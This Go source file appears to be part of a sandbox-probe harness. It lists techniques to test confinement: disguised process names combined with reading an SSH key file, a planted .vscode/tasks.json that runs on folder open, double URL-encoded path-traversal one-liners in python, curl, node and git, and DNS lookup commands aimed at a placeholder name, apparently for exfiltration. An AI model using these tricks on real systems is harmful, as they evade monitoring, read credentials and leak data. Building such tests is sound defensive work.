//go:build linux

package inside

import (
	"encoding/hex"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
)

// hiddenCommands starts a program under each name of the argument "names", in
// hex, and with each as an argument too, so that whoever shows commands has
// them to show; the program asks for a secret, so that there is something to
// show. It also leaves a file that a launcher has to name, below a directory of
// that name.
func hiddenCommands(p *Probe) {
	for i, line := range strings.Split(p.Arg("names"), "\n") {
		b, err := hex.DecodeString(line)
		if err != nil {
			continue
		}
		name := string(b)
		dir := p.In("W", "d"+itoa(i)+name)
		path := filepath.Join(dir, "p"+name)
		p.Control("put a program there", func() error {
			return errors.Join(os.MkdirAll(dir, 0o755), copyFile(os.Args[0], path), os.Chmod(path, 0o755))
		})
		p.Try("start it", func() error {
			c := exec.Command(path, "-child", p.nonce, "read", "path="+p.In("H", ".ssh", "id_other"), "line="+name)
			c.Stdout, c.Stderr = os.Stdout, os.Stderr
			return c.Run()
		})
		p.Try("leave a file that is executed later", func() error { return create(filepath.Join(dir, ".vscode", "tasks.json")) })
	}
}

// encodedSets hand a path to programs that take escapes out of it: {E} is {S}
// with every letter of the way there escaped once, {EE} twice.
func encodedSets() map[string][]Trick {
	return map[string][]Trick{
		"encoded-python": {
			python("twice", "from urllib.parse import unquote; print(open('{D}/' + unquote(unquote('{EE}'))).read())").to(Prints),
			python("until-clean", "from urllib.parse import unquote\np = '{EE}'\nwhile '%' in p: p = unquote(p)\nprint(open('{D}/' + p).read())").to(Prints),
			python("plus", "from urllib.parse import unquote_plus as u; print(open('{D}/' + u(u('{EE}'))).read())").to(Prints),
			python("url", "import urllib.request as r; from urllib.parse import unquote as u; print(r.urlopen('file://{D}/' + u('{EE}')).read())").to(Prints),
			python("once", "import urllib.request as r; print(r.urlopen('file://{D}/{E}').read())").to(Prints),
			python("checked-first", "import os, urllib.parse as u\np = '{EE}'\nassert '..' not in os.path.normpath(p)\nprint(open('{D}/' + u.unquote(u.unquote(p))).read())").to(Prints),
			python("path", "import pathlib, urllib.parse as u; print(pathlib.Path(u.unquote(u.unquote('{D}/{EE}'))).read_text())").to(Prints),
		},
		"encoded-curl": {
			sh("once", "curl -s file://{D}/{E}").to(Prints),
			sh("path-as-is", "curl -s --path-as-is file://{D}/{E}").to(Prints),
			sh("localhost", "curl -s file://localhost{D}/{E}").to(Prints),
			sh("twice", "curl -s file://{D}/$(printf %b \"$(echo '{EE}' | sed 's/%25/%/g')\")").to(Prints),
			sh("config", "echo 'url = \"file://{D}/{E}\"' | curl -s -K -").to(Prints),
			bash("printf", "cat \"{D}/$(printf %b \"$(echo '{E}' | sed 's/%/\\\\x/g')\")\"").to(Prints),
			bash("git", "git config --file \"{D}/$(printf %b \"$(echo '{EE}' | sed 's/%25/%/g; s/%/\\\\x/g')\")\" -l").to(Prints),
		},
		"encoded-node": {
			node("twice", "console.log(require('fs').readFileSync('{D}/' + decodeURIComponent(decodeURIComponent('{EE}')), 'utf8'))").to(Prints),
			node("unescape", "console.log(require('fs').readFileSync('{D}/' + unescape(unescape('{EE}')), 'utf8'))").to(Prints),
			node("querystring", "const q = require('querystring'); console.log(require('fs').readFileSync('{D}/' + q.unescape(q.unescape('{EE}')), 'utf8'))").to(Prints),
			node("joined", "const p = require('path'); console.log(require('fs').readFileSync(p.join('{D}', decodeURIComponent(decodeURIComponent('{EE}'))), 'utf8'))").to(Prints),
		},
	}
}

// escaped is the way from dir to path, with every dot and slash escaped.
func escaped(dir, path string, times int) string {
	rel, err := filepath.Rel(dir, path)
	if err != nil {
		return path
	}
	s := strings.NewReplacer(".", "%2e", "/", "%2f").Replace(rel)
	for range times - 1 {
		s = strings.ReplaceAll(s, "%", "%25")
	}
	return s
}

// dnsSets ask for a name, {Q}, by programs that are there to diagnose.
func dnsSets() map[string][]Trick {
	asks := func(name string, argv ...string) Trick { return Trick{Name: name, Argv: argv, Effect: Asks} }
	return map[string][]Trick{
		"getent": {
			asks("hosts", "getent", "hosts", "{Q}"), asks("ahosts", "getent", "ahosts", "{Q}"), asks("ahostsv4", "getent", "ahostsv4", "{Q}"),
			asks("python", "python3", "-c", "import socket; print(socket.gethostbyname('{Q}'))"),
			asks("perl", "perl", "-MSocket", "-e", "print inet_ntoa(inet_aton('{Q}') or die)"),
		},
		"dig": {asks("a", "dig", "+short", "+tries=1", "+time=2", "{Q}"), asks("tcp", "dig", "+tcp", "+short", "+tries=1", "+time=2", "{Q}"), asks("batch", "sh", "-c", "echo {Q} | dig -f - +short +tries=1 +time=2"),
			asks("server", "dig", "@11.0.0.53", "+short", "+tries=1", "+time=2", "{Q}")},
		"nslookup":   {asks("a", "nslookup", "-timeout=2", "-retry=1", "{Q}"), asks("stdin", "sh", "-c", "echo {Q} | nslookup -timeout=2 -retry=1"), asks("server", "nslookup", "-timeout=2", "-retry=1", "{Q}", "11.0.0.53")},
		"host":       {asks("a", "host", "-W", "2", "-R", "1", "{Q}"), asks("txt", "sh", "-c", "host -W 2 -R 1 -t A {Q}"), asks("server", "host", "-W", "2", "-R", "1", "{Q}", "11.0.0.53")},
		"ping":       {asks("name", "sh", "-c", "ping -c1 -W1 {Q}; getent hosts {Q}"), asks("pattern", "sh", "-c", "ping -c1 -W1 -p 746f6b {Q}; getent hosts {Q}")},
		"whois":      {asks("server", "sh", "-c", "whois -h {Q} a; getent hosts {Q}")},
		"traceroute": {asks("name", "sh", "-c", "traceroute -m1 -w1 {Q}; getent hosts {Q}")},
	}
}
